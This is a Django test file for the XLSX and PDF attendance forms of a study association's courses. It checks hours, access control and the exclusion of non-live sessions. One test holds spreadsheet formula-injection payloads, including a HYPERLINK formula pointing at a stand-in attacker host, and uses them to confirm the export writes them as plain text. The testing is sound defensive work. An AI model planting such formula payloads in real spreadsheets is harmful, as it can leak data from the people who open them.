"""The attendance form for SpS, read back: XLSX with openpyxl, PDF with pdftotext."""

import datetime
import io
import shutil
import subprocess

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from aktiviteter.studier.frammote import FIRST_DATE_COLUMN, HEADER_ROW
from aktiviteter.studier.models import Oppmote
from tests.factories import KursdeltakerFactory, MedlemFactory, SamlingFactory, StudietiltakFactory

pytestmark = pytest.mark.django_db


@pytest.fixture
def course(org, leader_a):
    leader = MedlemFactory(lokallag=org.lag_a, fornavn="Kari", etternavn="Kursleder")
    course = StudietiltakFactory(
        arrangor=org.lag_a, tittel="Det grønne hjulet i Drammen", kursleder=leader
    )
    first = SamlingFactory(
        studietiltak=course,
        dato=datetime.date(2026, 2, 3),
        starttid=datetime.time(18, 0),
        sluttid=datetime.time(20, 0),
    )
    second = SamlingFactory(
        studietiltak=course,
        dato=datetime.date(2026, 2, 10),
        starttid=datetime.time(18, 0),
        sluttid=datetime.time(19, 30),
        digitalt=True,
    )
    kari = KursdeltakerFactory(studietiltak=course, medlem=leader)
    per = KursdeltakerFactory(
        studietiltak=course,
        medlem=MedlemFactory(lokallag=org.lag_a, fornavn="Per", etternavn="Deltaker"),
    )
    guest = KursdeltakerFactory(studietiltak=course, medlem=None, navn="Gro Gjest", fodselsaar=1990)
    Oppmote.objects.create(samling=first, deltaker=kari, minutter=120)
    Oppmote.objects.create(samling=second, deltaker=kari, minutter=90)
    Oppmote.objects.create(samling=first, deltaker=per, minutter=60)  # left halfway
    Oppmote.objects.create(samling=second, deltaker=guest, minutter=90)  # absent first time
    return course


def test_xlsx_opens_with_the_hours_per_participant_and_session(client, leader_a, course):
    client.force_login(leader_a)
    response = client.get(reverse("aktiviteter:attendance_xlsx", kwargs={"pk": course.pk}))
    assert response.status_code == 200
    assert response["Content-Type"].startswith(
        "application/vnd.openxmlformats-officedocument.spreadsheetml"
    )
    ws = load_workbook(io.BytesIO(response.content)).active
    header = {ws.cell(row=r, column=1).value: ws.cell(row=r, column=2).value for r in range(2, 7)}
    assert header["Kurs"] == "Det grønne hjulet i Drammen"
    assert header["Arrangør"] == "Drammen Senterparti"
    assert header["Studieplan"] == "Det grønne hjulet"
    assert header["Kursleder"] == "Kari Kursleder"
    dates = [ws.cell(row=HEADER_ROW, column=FIRST_DATE_COLUMN + i).value for i in range(2)]
    assert [d.date() for d in dates] == [datetime.date(2026, 2, 3), datetime.date(2026, 2, 10)]
    assert ws.cell(row=HEADER_ROW, column=FIRST_DATE_COLUMN + 2).value == "Sum timer"
    rows = {
        ws.cell(row=r, column=1).value: [
            ws.cell(row=r, column=c).value for c in range(2, FIRST_DATE_COLUMN + 3)
        ]
        for r in range(HEADER_ROW + 1, HEADER_ROW + 4)
    }
    assert rows == {
        "Kari Kursleder": [1970, 2.0, 1.5, 3.5],
        "Per Deltaker": [1970, 1.0, 0.0, 1.0],
        "Gro Gjest": [1990, 0.0, 1.5, 1.5],
    }
    footer = HEADER_ROW + 4
    assert ws.cell(row=footer, column=1).value == "Timer i samlingen"
    assert [ws.cell(row=footer, column=c).value for c in range(3, 6)] == [2.0, 1.5, 3.5]
    assert [ws.cell(row=footer + 1, column=c).value for c in range(3, 5)] == ["Fysisk", "Digitalt"]


@pytest.mark.skipif(not shutil.which("pdftotext"), reason="pdftotext (poppler-utils) mangler")
def test_pdf_holds_the_course_and_each_participants_hours(client, leader_a, course):
    client.force_login(leader_a)
    response = client.get(reverse("aktiviteter:attendance_pdf", kwargs={"pk": course.pk}))
    assert response.status_code == 200
    assert response["Content-Type"] == "application/pdf"
    assert response.content.startswith(b"%PDF")
    text = subprocess.run(
        ["pdftotext", "-layout", "-", "-"],
        input=response.content,
        capture_output=True,
        check=True,
    ).stdout.decode()
    assert "Frammøteskjema – Senterpartiets Studieforbund" in text
    assert "Det grønne hjulet i Drammen" in text
    assert "03.02.2026" in text and "10.02.2026" in text
    lines = {
        line.split()[0] + " " + line.split()[1]: line.split()
        for line in text.splitlines()
        if line.strip() and len(line.split()) > 2
    }
    assert lines["Per Deltaker"][-3:] == ["1,00", "0,00", "1,00"]
    assert lines["Gro Gjest"][-3:] == ["0,00", "1,50", "1,50"]
    assert lines["Kari Kursleder"][-3:] == ["2,00", "1,50", "3,50"]


def test_another_chapters_leader_cannot_download_the_form(client, leader_b, course):
    client.force_login(leader_b)
    for name in ("attendance_xlsx", "attendance_pdf"):
        assert (
            client.get(reverse(f"aktiviteter:{name}", kwargs={"pk": course.pk})).status_code == 404
        )


HOSTILE = {
    "tittel": '=HYPERLINK("http://evil.example/?x","klikk")',
    "deltaker": "+SUM(1+1)",
    "medlem": "-2+3",
    "kursleder": "@kommando",
}


def test_xlsx_keeps_user_text_that_looks_like_a_formula_as_text(client, org, leader_a):
    """Course title, a guest's name and imported member names are user text: read back, no
    cell is a formula and every text is exactly what was typed."""
    leader = MedlemFactory(lokallag=org.lag_a, fornavn=HOSTILE["kursleder"], etternavn="Leder")
    course = StudietiltakFactory(arrangor=org.lag_a, tittel=HOSTILE["tittel"], kursleder=leader)
    SamlingFactory(
        studietiltak=course,
        dato=datetime.date(2026, 2, 3),
        starttid=datetime.time(18, 0),
        sluttid=datetime.time(20, 0),
    )
    KursdeltakerFactory(studietiltak=course, medlem=None, navn=HOSTILE["deltaker"], fodselsaar=1990)
    imported = MedlemFactory(lokallag=org.lag_a, fornavn=HOSTILE["medlem"], etternavn="Import")
    KursdeltakerFactory(studietiltak=course, medlem=imported)

    client.force_login(leader_a)
    response = client.get(reverse("aktiviteter:attendance_xlsx", kwargs={"pk": course.pk}))
    assert response.status_code == 200
    ws = load_workbook(io.BytesIO(response.content)).active

    cells = [cell for row in ws.iter_rows() for cell in row if cell.value is not None]
    formulas = [(cell.coordinate, cell.value) for cell in cells if cell.data_type == "f"]
    assert formulas == []
    texts = {cell.value for cell in cells if isinstance(cell.value, str)}
    assert HOSTILE["tittel"] in texts
    assert HOSTILE["deltaker"] in texts
    assert f"{HOSTILE['medlem']} Import" in texts
    assert f"{HOSTILE['kursleder']} Leder" in texts


def _with_a_recording(course) -> None:
    """A third, digital session that was not live (a recording), attended by Per."""
    recording = SamlingFactory(
        studietiltak=course,
        dato=datetime.date(2026, 2, 17),
        starttid=datetime.time(18, 0),
        sluttid=datetime.time(21, 0),
        digitalt=True,
        sanntid=False,
    )
    Oppmote.objects.create(
        samling=recording, deltaker=course.deltakere.get(medlem__fornavn="Per"), minutter=180
    )


def test_xlsx_leaves_out_a_session_that_was_not_live_like_the_verdict(client, leader_a, course):
    """SpS counts a digital session only when it was live: the sheet sent to SpS must not list
    the recording's date or hours, and its sums agree with the course page's verdict."""
    _with_a_recording(course)
    client.force_login(leader_a)
    response = client.get(reverse("aktiviteter:attendance_xlsx", kwargs={"pk": course.pk}))
    ws = load_workbook(io.BytesIO(response.content)).active
    header = [ws.cell(row=HEADER_ROW, column=c).value for c in range(FIRST_DATE_COLUMN, 7)]
    assert [d.date() for d in header[:2]] == [datetime.date(2026, 2, 3), datetime.date(2026, 2, 10)]
    assert header[2] == "Sum timer"
    per = next(r for r in ws.iter_rows(values_only=True) if r[0] == "Per Deltaker")
    assert per[1:5] == (1970, 1.0, 0.0, 1.0)
    texts = [c for r in ws.iter_rows(values_only=True) for c in r if isinstance(c, str)]
    assert "3,00 timer i digitale samlinger som ikke var i sanntid, teller ikke." in texts


@pytest.mark.skipif(not shutil.which("pdftotext"), reason="pdftotext (poppler-utils) mangler")
def test_pdf_leaves_out_a_session_that_was_not_live(client, leader_a, course):
    _with_a_recording(course)
    client.force_login(leader_a)
    response = client.get(reverse("aktiviteter:attendance_pdf", kwargs={"pk": course.pk}))
    text = subprocess.run(
        ["pdftotext", "-layout", "-", "-"], input=response.content, capture_output=True, check=True
    ).stdout.decode()
    assert "17.02.2026" not in text
    per = next(line.split() for line in text.splitlines() if "Per Deltaker" in line)
    assert per[-3:] == ["1,00", "0,00", "1,00"]
    assert "som ikke var i sanntid, teller ikke" in text
